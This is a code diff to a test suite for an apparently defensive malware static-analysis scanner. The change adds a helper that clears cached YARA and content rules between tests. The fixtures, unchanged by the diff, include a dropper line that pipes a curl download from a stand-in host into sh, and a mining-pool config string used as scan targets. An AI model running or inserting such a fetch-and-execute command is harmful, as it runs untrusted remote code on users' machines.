@@ -15,7 +15,7 @@ import yara_x
 
 from detonate.model.options import StaticOptions
 from detonate.progress import NullProgress
-from detonate.rules.loader import load_rules
+from detonate.rules.loader import _load_rules, forget_fingerprints
 from detonate.static import analyze, content_pass, yara_rules
 from detonate.static.content_pass import content_results
 from detonate.static.indicators import CANDIDATES_YARA, find_indicators
@@ -31,6 +31,15 @@ from detonate.static.result_cache import (
 )
 from detonate.static.yara_rules import compiled_rules, size_bound
 from static.rootfs_builder import SampleFile, build_rootfs, make_image
+
+
+def forget_rules() -> None:
+    """Read and compile the rule files again (a process otherwise keeps them while their
+    fingerprint holds, and an edit within one mtime tick may not change it)."""
+    forget_fingerprints()
+    _load_rules.cache_clear()
+    yara_rules._compiled.cache_clear()
+
 
 DROPPER = b"#!/bin/sh\ncurl -fsSL http://x.test/a.sh | sh\n"
 POOL = b"pool=stratum+tcp://pool.test:3333\n"
@@ -75,8 +84,7 @@ def user_rules(directory: Path, marker: str) -> Path:
     directory.mkdir(exist_ok=True)
     rule = USER_RULE.format(name="cache_test_marker", marker=marker)
     (directory / "cache-test-marker.yar").write_text(rule)
-    load_rules.cache_clear()  # a process reads and compiles a rules directory once
-    yara_rules._compiled.cache_clear()
+    forget_rules()  # a process reads and compiles a rules directory once
     return directory
 
 
@@ -129,8 +137,7 @@ def test_a_changed_yara_rule_rescans_and_an_unchanged_one_does_not(tmp_path: Pat
     assert counts("yara") == (0, 3)
     assert counts("iocs") == (3, 0)  # … for the rules only: IOC results do not depend on them
     assert "cache-test-marker" not in {f.rule_id for f in result.findings}
-    load_rules.cache_clear()
-    yara_rules._compiled.cache_clear()
+    forget_rules()
 
 
 def test_a_new_analyzer_version_misses(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -279,7 +286,7 @@ def test_file_content_rules_are_cached_per_rule(tmp_path: Path) -> None:
     rules.mkdir()
     rule_file = rules / "cache-test-conf-line.yaml"
     rule_file.write_text(USER_FILE_RULE.format(regex="pool=stratum"))
-    load_rules.cache_clear()
+    forget_rules()
     options = StaticOptions(results_cache=tmp_path / "results", extra_rules_dir=rules)
     first = scan(tmp_path / "a", options)
     assert "cache-test-conf-line" in {f.rule_id for f in first.findings}
@@ -291,12 +298,12 @@ def test_file_content_rules_are_cached_per_rule(tmp_path: Path) -> None:
     assert counts("files") == (first_misses, 0) and second.findings == first.findings
 
     rule_file.write_text(USER_FILE_RULE.format(regex="pool=nothing-here"))
-    load_rules.cache_clear()
+    forget_rules()
     reset_cache_stats()
     third = scan(tmp_path / "c", options)
     assert counts("files") == (first_misses - 1, 1)  # only the changed rule reads miner.conf
     assert "cache-test-conf-line" not in {f.rule_id for f in third.findings}
-    load_rules.cache_clear()
+    forget_rules()
 
 
 @pytest.mark.parametrize(
